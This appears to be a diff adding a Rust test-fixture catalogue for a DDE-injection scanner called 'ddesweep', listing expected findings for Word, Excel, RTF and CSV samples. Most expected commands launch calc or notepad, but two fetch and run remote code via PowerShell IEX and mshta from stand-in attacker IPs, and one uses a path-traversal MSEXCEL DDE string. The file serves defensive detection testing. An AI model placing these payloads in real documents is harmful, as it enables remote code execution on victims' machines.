@@ -1,0 +1,211 @@
+//! The list of every fixture under `testdata/`: its path, the function that
+//! builds it and what `ddesweep` is expected to report for it.
+
+use crate::{evidence, hostile, negative, positive};
+
+/// What the tool should report for a fixture.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Expect {
+    /// No DDE finding (warnings or a read error are allowed for hostile
+    /// inputs).
+    Clean,
+    /// Exactly these commands, in document order.
+    Commands(&'static [&'static str]),
+    /// At least one DDE finding; the exact command text is not pinned down.
+    Detected,
+}
+
+/// One catalogued fixture.
+#[derive(Debug, Clone, Copy)]
+pub struct Entry {
+    /// Path relative to `testdata/`, with `/` separators.
+    pub path: &'static str,
+    /// Builds the file's bytes.
+    pub build: fn() -> Vec<u8>,
+    /// Expected report.
+    pub expect: Expect,
+}
+
+const fn entry(path: &'static str, build: fn() -> Vec<u8>, expect: Expect) -> Entry {
+    Entry {
+        path,
+        build,
+        expect,
+    }
+}
+
+use Expect::{Clean, Commands, Detected};
+
+/// Every fixture, in the order [`crate::fixtures`] returns them.
+pub const CATALOG: &[Entry] = &[
+    entry(
+        "documents/positive/word-ddeauto-runs.docx",
+        positive::word_ddeauto_runs,
+        Commands(&[r#"c:\windows\system32\cmd.exe "/k calc.exe""#]),
+    ),
+    entry(
+        "documents/positive/word-dde-fldsimple.docx",
+        positive::word_dde_fldsimple,
+        Commands(&[r#"c:\windows\system32\cmd.exe "/c notepad.exe""#]),
+    ),
+    entry(
+        "documents/positive/word-every-part.docm",
+        positive::word_every_part,
+        Commands(&[
+            r#"cmd.exe "/c echo body""#,
+            r#"cmd.exe "/c echo header""#,
+            r#"cmd.exe "/c echo footer""#,
+            r#"cmd.exe "/c echo footnote""#,
+            r#"cmd.exe "/c echo endnote""#,
+            r#"cmd.exe "/c echo comment""#,
+        ]),
+    ),
+    entry(
+        "documents/positive/word-quote-nested.docx",
+        positive::word_quote_nested,
+        Commands(&[r#"C:\Windows\System32\cmd.exe "/c calc.exe""#]),
+    ),
+    entry(
+        "documents/positive/word-lowercase.dotm",
+        positive::word_lowercase,
+        Commands(&[r#"c:\windows\system32\cmd.exe "/c whoami""#]),
+    ),
+    entry(
+        "documents/positive/excel-ddelink.xlsx",
+        positive::excel_ddelink,
+        Commands(&["cmd /c calc.exe"]),
+    ),
+    entry(
+        "documents/positive/excel-formula.xlsm",
+        positive::excel_formula,
+        Commands(&[
+            "cmd /c powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/p.ps1')",
+        ]),
+    ),
+    entry(
+        "documents/positive/rtf-ddeauto.rtf",
+        positive::rtf_ddeauto,
+        Commands(&[r#"c:\windows\system32\cmd.exe "/k calc.exe""#]),
+    ),
+    entry(
+        "documents/positive/rtf-escaped.rtf",
+        positive::rtf_escaped,
+        Commands(&[
+            r#"c:\windows\system32\cmd.exe "/c calc.exe""#,
+            r#"c:\windows\system32\cmd.exe "/c mspaint.exe""#,
+        ]),
+    ),
+    entry(
+        "documents/positive/csv-cmd.csv",
+        positive::csv_cmd,
+        Commands(&["cmd /c calc.exe"]),
+    ),
+    entry(
+        "documents/positive/csv-utf16.csv",
+        positive::csv_utf16,
+        Commands(&["cmd /c notepad.exe"]),
+    ),
+    entry(
+        "documents/positive/csv-bom.tsv",
+        positive::csv_bom_tsv,
+        Commands(&["cmd /c calc.exe"]),
+    ),
+    entry(
+        "documents/positive/csv-libreoffice.csv",
+        positive::csv_libreoffice,
+        Commands(&["cmd /c calc.exe"]),
+    ),
+    entry(
+        "documents/positive/txt-formula.txt",
+        positive::txt_formula,
+        Commands(&["cmd /c calc.exe"]),
+    ),
+    entry(
+        "documents/negative/word-benign-fields.docx",
+        negative::word_benign_fields,
+        Clean,
+    ),
+    entry(
+        "documents/negative/excel-benign.xlsx",
+        negative::excel_benign,
+        Clean,
+    ),
+    entry(
+        "documents/negative/rtf-benign.rtf",
+        negative::rtf_benign,
+        Clean,
+    ),
+    entry(
+        "documents/negative/csv-benign.csv",
+        negative::csv_benign,
+        Clean,
+    ),
+    entry("documents/hostile/empty.docx", hostile::empty, Clean),
+    entry("documents/hostile/corrupt.docx", hostile::corrupt, Clean),
+    entry(
+        "documents/hostile/truncated.docx",
+        hostile::truncated,
+        Clean,
+    ),
+    entry("documents/hostile/zipbomb.docx", hostile::zipbomb, Clean),
+    entry(
+        "documents/hostile/deep-nesting.rtf",
+        hostile::deep_nesting,
+        Clean,
+    ),
+    entry(
+        "documents/hostile/deep-fields.docx",
+        hostile::deep_fields,
+        Clean,
+    ),
+    entry(
+        "documents/hostile/invalid-utf8.docx",
+        hostile::invalid_utf8,
+        Commands(&["c:\\windows\\system32\\cmd.exe \"/c calc.exe\u{FFFD}\u{FFFD}\""]),
+    ),
+    entry(
+        "documents/hostile/invalid-utf16.csv",
+        hostile::invalid_utf16,
+        Commands(&["cmd /c calc.exe"]),
+    ),
+    entry(
+        "documents/hostile/truncated-xml.docx",
+        hostile::truncated_xml,
+        Commands(&[r#"c:\windows\system32\cmd.exe "/c truncated""#]),
+    ),
+    entry(
+        "sample-evidence/C/Users/alice/Downloads/Invoice_2291.docx",
+        evidence::invoice,
+        Detected,
+    ),
+    entry(
+        "sample-evidence/C/Users/alice/AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/7XK2LQ0B/Payment_Advice.xlsx",
+        evidence::payment_advice,
+        Commands(&["cmd /c mshta http://198.51.100.23/pa.hta"]),
+    ),
+    entry(
+        "sample-evidence/C/Users/bob/Desktop/export.csv",
+        evidence::contacts_export,
+        Commands(&[r"MSEXCEL \..\..\..\Windows\System32\cmd.exe /c calc.exe"]),
+    ),
+    entry(
+        "sample-evidence/C/Users/bob/Documents/Quarterly_Report.docx",
+        evidence::quarterly_report,
+        Clean,
+    ),
+    entry(
+        "sample-evidence/C/Users/alice/Documents/notes.txt",
+        evidence::notes,
+        Clean,
+    ),
+    entry(
+        "sample-evidence/C/Users/alice/Pictures/photo.jpg",
+        evidence::photo,
+        Clean,
+    ),
+];
+
+/// The catalogue entry for `path` (relative to `testdata/`).
+pub fn find(path: &str) -> Option<&'static Entry> {
+    CATALOG.iter().find(|e| e.path == path)
+}
